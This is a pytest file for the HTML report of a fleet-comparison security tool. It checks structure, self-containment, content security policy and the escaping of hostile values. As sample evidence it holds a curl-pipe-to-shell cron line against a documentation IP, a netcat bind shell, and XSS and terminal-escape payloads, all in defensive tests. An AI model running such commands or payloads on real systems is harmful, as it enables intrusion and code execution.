"""The HTML report: structure, self-containment (nothing loaded from anywhere) and hostile values.

The documents are parsed with the standard library's HTML parser, which tokenizes like a browser:
a value that escaped its escaping would show up as a tag or an attribute here.
"""

from __future__ import annotations

import base64
import hashlib
import html as html_lib
import io
import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from report_samples import (
    HOSTILE_IMG,
    HOSTILE_JS_URL,
    HOSTILE_SCRIPT,
    HOSTILE_STYLE,
    HOSTILE_SVG,
    baseline_analysis,
    hostile_analysis,
    peers_analysis,
)

from diffy_analysis.findings import Analysis, Dendrogram, Finding, HostResult
from diffy_analysis.report import html as html_report

# Every tag the report itself writes.  Anything else would have come from a value.
OUR_TAGS = {
    "html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3", "h4", "nav", "a", "div",
    "span", "dl", "dt", "dd", "main", "section", "ul", "li", "strong", "p", "figure", "img", "figcaption",
    "table", "thead", "tbody", "tr", "th", "td", "footer", "script",
}  # fmt: skip


class Page(HTMLParser):
    """Tags, attributes, text and the raw content of <style>/<script>, as a browser would see them."""

    def __init__(self, doc: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.raw: dict[str, list[str]] = {"style": [], "script": []}
        self._in: str | None = None
        self.feed(doc)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag in self.raw:
            self._in = tag

    def handle_endtag(self, tag):
        if tag == self._in:
            self._in = None

    def handle_data(self, data):
        if self._in:
            self.raw[self._in].append(data)
        else:
            self.text.append(data)

    @property
    def all_text(self) -> str:
        return "".join(self.text)

    def attrs(self, name: str) -> list[str]:
        return [a[name] or "" for _, a in self.tags if name in a]


def render(analysis: Analysis) -> str:
    stream = io.StringIO()
    html_report.render(analysis, stream)
    return stream.getvalue()


@pytest.fixture(scope="module")
def peers_doc() -> str:
    return render(peers_analysis())


@pytest.fixture(scope="module")
def hostile_doc() -> str:
    return render(hostile_analysis())


def svg_images(page: Page) -> list[str]:
    out = []
    for src in page.attrs("src"):
        assert src.startswith("data:image/svg+xml;base64,")
        out.append(base64.b64decode(src.split(",", 1)[1]).decode("utf-8"))
    return out


def test_structure_of_a_peers_report(peers_doc):
    page = Page(peers_doc)
    assert peers_doc.startswith("<!DOCTYPE html>")
    ids = set(page.attrs("id"))
    for section in (
        "summary",
        "verdict",
        "outliers",
        "clustering",
        "dendrogram",
        "heatmap",
        "hosts",
        "ranked",
    ):
        assert section in ids
    assert {"details", "clusters", "not-collected", "skipped", "gaps", "host-1", "host-2"} <= ids
    text = page.all_text
    assert "2 of 24 hosts stand out: i-0abc1234 (listens on tcp/4444 (nc), new uid-0 user sysadm)" in text
    assert "listens on tcp/4444 (nc), on 1 of 24 hosts" in text
    assert "ssh: connect to host timed out" in text and "osquery install failed" in text
    assert "query exceeded 30 s" in text  # the gap's error is shown
    # Evidence rows as collected: the bind shell's path and the cron command.
    assert "/usr/bin/nc.openbsd" in text
    assert "curl -s http://203.0.113.9/x | sh" in text
    # Sortable tables and the one script that sorts them.
    assert sum(1 for t, a in page.tags if t == "table" and "sortable" in (a.get("class") or "")) >= 5
    assert len(page.raw["script"]) == 1 and "addEventListener" in page.raw["script"][0]


def test_dendrogram_and_heatmap_are_embedded_svg_with_outliers_highlighted(peers_doc):
    dendrogram, heatmap = svg_images(Page(peers_doc))
    assert "Hierarchical clustering" in dendrogram
    assert "cut 0.769" in dendrogram
    assert "#c0392b" in dendrogram  # the outlier colour, used for outlier leaves and the cut line
    for leaf in ("i-0abc1234", "i-0def5678", "i-00000005"):
        assert leaf in dendrogram
    assert "listens on tcp/4444 (nc)" in heatmap and "i-0abc1234" in heatmap


def test_self_contained_no_external_reference(peers_doc, hostile_doc):
    for doc in (peers_doc, hostile_doc, render(baseline_analysis())):
        page = Page(doc)
        for src in page.attrs("src"):
            assert src.startswith("data:image/")
        for href in page.attrs("href"):
            assert href.startswith("#")
        for name in ("srcset", "action", "formaction", "poster", "background", "data", "ping"):
            assert not page.attrs(name)
        assert not [t for t, _ in page.tags if t in {"link", "iframe", "object", "embed", "base", "form"}]
        css = "".join(page.raw["style"])
        assert "url(" not in css and "@import" not in css
        for svg in svg_images(page):
            assert "<script" not in svg
            # Only references inside the picture itself: markers reused by id, and the heatmap's
            # raster (imshow) and colour bar as embedded PNG.
            for ref in re.findall(r'href="([^"]*)"', svg):
                assert ref.startswith(("#", "data:image/png;base64,")), ref[:80]
            assert "<foreignObject" not in svg


def test_content_security_policy_allows_only_our_style_and_script(peers_doc):
    page = Page(peers_doc)
    csp = [
        a["content"] for t, a in page.tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy"
    ]
    assert len(csp) == 1
    policy = csp[0]
    assert "default-src 'none'" in policy and "img-src data:" in policy
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
    # The hashes in the policy are those of the one style sheet and the one script of the page.
    (css,), (js,) = page.raw["style"], page.raw["script"]
    for text in (css, js):
        digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in policy
    # The policy comes before anything it must govern.
    assert peers_doc.index("Content-Security-Policy") < peers_doc.index("<style>")


def test_report_is_ascii_and_deterministic(peers_doc):
    peers_doc.encode("ascii")
    assert render(peers_analysis()) == peers_doc


def test_hostile_values_stay_text(hostile_doc):
    page = Page(hostile_doc)
    # Only the tags we write, only one script and one style, no event handler attribute anywhere.
    assert {t for t, _ in page.tags} <= OUR_TAGS
    assert [t for t, _ in page.tags].count("script") == 1
    assert [t for t, _ in page.tags].count("style") == 1
    assert [t for t, _ in page.tags].count("img") == 2  # the two plots
    for _, attrs in page.tags:
        for name, value in attrs.items():
            assert not name.startswith("on"), name
            assert "javascript:" not in (value or "").lower()
            assert "pwned" not in (value or "")
    assert "pwned" not in "".join(page.raw["script"]) + "".join(page.raw["style"])
    # Shown, literally, as text.
    text = page.all_text
    for value in (HOSTILE_SCRIPT, HOSTILE_IMG, HOSTILE_STYLE, HOSTILE_SVG, HOSTILE_JS_URL):
        assert value in text
    assert "[red]not red[/red]" in text


def test_hostile_control_characters_surrogates_and_long_values(hostile_doc):
    hostile_doc.encode("ascii")  # lone surrogates or raw bytes would make this raise
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", hostile_doc)
    text = Page(hostile_doc).all_text
    assert "\\x1b]0;pwned\\x07\\x1b[2J" in text
    assert "bad-\\xff-\\x80-utf8" in text
    assert "safe\\u202egnp.exe" in text and "\u202e" not in text
    assert "199,500 more characters not shown" in text
    assert "A" * 501 not in hostile_doc  # the 200,000-character value is cut
    assert len(hostile_doc) < 400_000


def test_hostile_labels_in_plots_are_escaped_svg_text(hostile_doc):
    for svg in svg_images(Page(hostile_doc)):
        assert "<script" not in svg and "<img" not in svg and "<svg onload" not in svg
        assert "&lt;script&gt;" in svg or "&lt;/style&gt;" in svg
        assert "\x1b" not in svg


def test_dollar_signs_in_names_do_not_break_the_plots():
    base = peers_analysis()
    odd = replace(base.hosts[0], host="$\\frac{1}{$ $x^2$")
    labels = tuple(
        "$\\frac{1}{$ $x^2$" if lbl == base.hosts[0].host else lbl for lbl in base.dendrogram.labels
    )
    analysis = replace(base, hosts=(odd, *base.hosts[1:]), dendrogram=replace(base.dendrogram, labels=labels))
    dendrogram, heatmap = svg_images(Page(render(analysis)))
    assert "$\\frac{1}{$ $x^2$" in dendrogram and "$\\frac{1}{$ $x^2$" in heatmap


def test_malformed_dendrogram_is_reported_not_fatal():
    base = peers_analysis()
    broken = replace(
        base, dendrogram=Dendrogram(linkage=((0.0, 1.0, float("nan"), 2.0),), labels=("a",), cut_distance=1)
    )
    text = Page(render(broken)).all_text
    assert "No dendrogram: linkage matrix of shape (1, 4) does not fit 1 labels." in text
    assert "i-0abc1234" in text  # the rest of the report is there


def test_baseline_rows_side_by_side():
    doc = render(baseline_analysis())
    page = Page(doc)
    text = page.all_text
    assert "1 of 3 hosts differs from the baseline web-clean-2026-11: i-0aaa1111" in text
    assert "Baseline method: hosts are compared with the baseline, not clustered." in text
    captions = doc.count('<table class="side-by-side">')
    assert captions == 3
    assert "<th>column</th><th>baseline</th><th>this host</th>" in doc
    # The changed column is marked and both values are shown next to each other.
    row = re.search(r"<tr><th>sha256</th>(.*?)</tr>", doc).group(1)
    assert row.count("changed-cell") == 2
    assert "9f86d081" * 8 in row and "e3b0c442" * 8 in row
    # Added rows: absent on the baseline; missing rows: absent on the host.
    assert re.search(
        r"<tr><th>key</th><td class=\"note\">\(absent\)</td><td class=\"value\">ssh-ed25519", doc
    )
    assert re.search(
        r"<tr><th>name</th><td class=\"value\">falcon-sensor</td><td class=\"note\">\(absent\)", doc
    )
    assert "<th>added</th><th>missing</th><th>changed</th>" in doc
    # A difference most of the fleet shares is reported once, as a population.
    assert "acme-orders is version 2.4.1 (baseline: 2.3.9), on 2 of 3 hosts" in text
    assert 'id="population-table"' in doc


def test_large_fleet_keeps_the_report_small():
    analysis = peers_analysis(n_hosts=2000)
    doc = render(analysis)
    page = Page(doc)
    sections = [a for t, a in page.tags if t == "section" and "host" in (a.get("class") or "").split()]
    with_findings = sum(1 for h in analysis.hosts if h.findings)
    assert with_findings > 400
    assert len(sections) == len(analysis.outliers) + html_report.EXTRA_SECTION_HOSTS
    ranked_rows = doc.split('id="ranked"', 1)[1].split("</table>", 1)[0].count("<tr")
    assert ranked_rows == 2001  # header + every host
    assert len(doc) < 2_000_000


def test_no_findings_and_no_hosts():
    empty = Analysis(method="peers", run_ids=("r",), hosts=())
    text = Page(render(empty)).all_text
    assert "No host could be analysed" in text
    quiet = Analysis(
        method="peers",
        run_ids=("r",),
        hosts=tuple(HostResult(f"h{i}", f"h{i}", 0.0, False, 1, ()) for i in range(3)),
    )
    text = Page(render(quiet)).all_text
    assert "No host stands out (3 hosts analysed)." in text
    assert "No findings on any host." in text
    assert "Every host was analysed with every query." in text


def test_many_evidence_columns_are_capped():
    row = {f"col{i}": str(i) for i in range(60)}
    finding = Finding(
        "wide", "added", row, "a very wide row", 1.0, hosts_with_row=1, hosts_compared=2, prevalence=0.5
    )
    analysis = Analysis(
        method="peers",
        run_ids=("r",),
        hosts=(HostResult("a", "a", 1.0, True, 1, (finding,)), HostResult("b", "b", 0.0, False, 1, ())),
    )
    text = Page(render(analysis)).all_text
    assert "35 more columns not shown." in text


# --- generated fleets analysed by the real engine -----------------------------------------------------


@pytest.fixture(scope="module")
def fleets(tmp_path_factory):
    from report_fleets import baseline_fleet, hostile_fleet, peers_fleet

    root = tmp_path_factory.mktemp("fleets")
    return {
        "peers": peers_fleet(root / "peers"),
        "baseline": baseline_fleet(root / "baseline"),
        "hostile": hostile_fleet(root / "hostile"),
    }


def outlier_list(page: Page, doc: str) -> list[str]:
    section = doc.split('<section id="outliers">', 1)[1].split("</section>", 1)[0]
    return [
        html_lib.unescape(m) for m in re.findall(r'<strong class="host-name">(?:<a [^>]*>)?(.*?)<', section)
    ]


@pytest.mark.parametrize("name", ["peers", "baseline", "hostile"])
def test_generated_fleet_report(fleets, name):
    fleet = fleets[name]
    analysis = fleet.analysis
    doc = render(analysis)
    page = Page(doc)
    assert {t for t, _ in page.tags} <= OUR_TAGS
    assert [t for t, _ in page.tags].count("script") == 1
    for src in page.attrs("src"):
        assert src.startswith("data:image/svg+xml;base64,")
    assert all(h.startswith("#") for h in page.attrs("href"))
    # The report lists exactly the hosts the analysis flagged, in its order, each with a section.
    assert outlier_list(page, doc) == [h.host for h in analysis.outliers]
    assert len([a for t, a in page.tags if t == "section" and "outlier" in (a.get("class") or "")]) == len(
        analysis.outliers
    )
    # Every skipped host is listed with its reason.
    skipped = doc.split('id="skipped"', 1)[1].split("</table>", 1)[0]
    for host in analysis.skipped:
        assert html_lib.escape(host.host) in skipped
    if analysis.method == "peers":
        assert 'id="dendrogram"' in doc
    else:
        assert doc.count('<table class="side-by-side">') >= len(analysis.outliers)
        if analysis.population_differences:
            assert 'id="population-table"' in doc


def test_generated_hostile_fleet_values_stay_text(fleets):
    fleet = fleets["hostile"]
    doc = render(fleet.analysis)
    page = Page(doc)
    doc.encode("ascii")
    for _, attrs in page.tags:
        for attr, value in attrs.items():
            assert not attr.startswith("on")
            assert "pwned" not in (value or "")
    text = page.all_text
    assert "listens on tcp 0.0.0.0:4444 (process <script>window.__pwned=1</script>" in text
    assert "more characters not shown" in text  # the 100 KB command line is cut
    assert 'osqueryi: "><img src=x onerror="window.__pwned=1"> \\x1b[31m' in text
    assert "ssh: <script>window.__pwned=1</script>" in text
    assert set(fleet.poisoned) <= set(outlier_list(page, doc))


def test_outliers_collapsed_into_another_leaf_are_named_under_the_dendrogram():
    base = peers_analysis()
    labels = tuple("i-00000001 (+1 alike)" if lbl == "i-0def5678" else lbl for lbl in base.dendrogram.labels)
    analysis = replace(base, dendrogram=replace(base.dendrogram, labels=labels))
    text = Page(render(analysis)).all_text
    assert "Outliers inside another host's leaf: i-0def5678 (cluster 4)." in text
    assert "Outliers inside another host's leaf" not in Page(render(base)).all_text
